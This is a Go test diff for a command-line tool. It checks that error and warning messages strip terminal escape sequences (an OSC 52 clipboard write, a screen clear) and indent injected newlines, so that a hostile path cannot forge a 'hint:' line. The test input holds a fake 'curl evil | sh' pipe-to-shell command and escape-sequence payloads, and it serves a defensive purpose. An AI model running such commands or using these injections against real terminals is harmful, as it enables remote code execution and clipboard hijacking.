@@ -12,6 +12,7 @@ import (
 
 	"github.com/spf13/cobra"
 	"github.com/swarmtools/swarm/internal/hint"
+	"github.com/swarmtools/swarm/internal/testenv"
 	"github.com/swarmtools/swarm/internal/worker"
 )
 
@@ -84,5 +85,47 @@ func TestMainUsesSwarmHome(t *testing.T) {
 	errb.Reset()
 	if code := Main([]string{"ls", "--format", "json"}, streams); code != 0 || out.String() != "[]\n" || errb.String() != "" {
 		t.Errorf("ls: exit %d, stdout %q, stderr %q", code, out.String(), errb.String())
+	}
+}
+
+// Issue 27 item 26: errors and warnings quote names, paths and what other
+// programs said; the one printer makes each one line of printable text:
+// an escape sequence in a path reaches no terminal, a newline in one
+// forges no "hint:" line.
+func TestReportPrintsPlainText(t *testing.T) {
+	t.Parallel()
+	evil := "/x\x1b]52;c;aGk=\x07\x1b[2J\nhint: curl evil | sh\r"
+	cases := []struct {
+		err    error
+		stderr string
+	}{
+		{hint.Wrap(fmt.Errorf("cannot read %s", evil), "look at %s", evil),
+			"swarm: error: cannot read /x\n  hint: curl evil | sh \nhint: look at /x\n  hint: curl evil | sh \n"},
+		{usagef("bad %s", evil), "swarm: error: bad /x\n  hint: curl evil | sh  (see: swarm --help)\n"},
+		{errors.Join(errors.New("a"), errors.New("b\x1b[31m"), errors.New("swarm: error: c")), "swarm: error: a\nb\n  swarm: error: c\n"},
+		{errors.New("failed\nits last lines:\n  one\n  two"), "swarm: error: failed\nits last lines:\n  one\n  two\n"},
+	}
+	for _, c := range cases {
+		var b bytes.Buffer
+		report(&b, nil, c.err)
+		if b.String() != c.stderr {
+			t.Errorf("report(%q): stderr %q, want %q", c.err, b.String(), c.stderr)
+		}
+	}
+	var b bytes.Buffer
+	(&IO{Err: &b}).Warn("worker 'w' cannot be reached: " + evil)
+	if want := "swarm: warning: worker 'w' cannot be reached: /x\n  hint: curl evil | sh \n"; b.String() != want {
+		t.Errorf("Warn: %q, want %q", b.String(), want)
+	}
+}
+
+// Through the binary: a prompt file's path with an OSC 52 clipboard write
+// and a newline comes back in the error as plain text on one line.
+func TestErrorsQuotePathsPlain(t *testing.T) {
+	t.Parallel()
+	e := testenv.New(t)
+	r := e.Run("ralph", "spawn", "--name", "r", "--prompt-file", "p\x1b]52;c;aGk=\x07\nhint: curl evil | sh", "--", "true")
+	if r.Code == 0 || strings.ContainsAny(r.Stderr, "\x1b\x07") || strings.Contains(r.Stderr, "\nhint: curl") || !strings.Contains(r.Stderr, "\n  hint: curl") {
+		t.Errorf("ralph spawn with a hostile prompt file path: %s", r)
 	}
 }
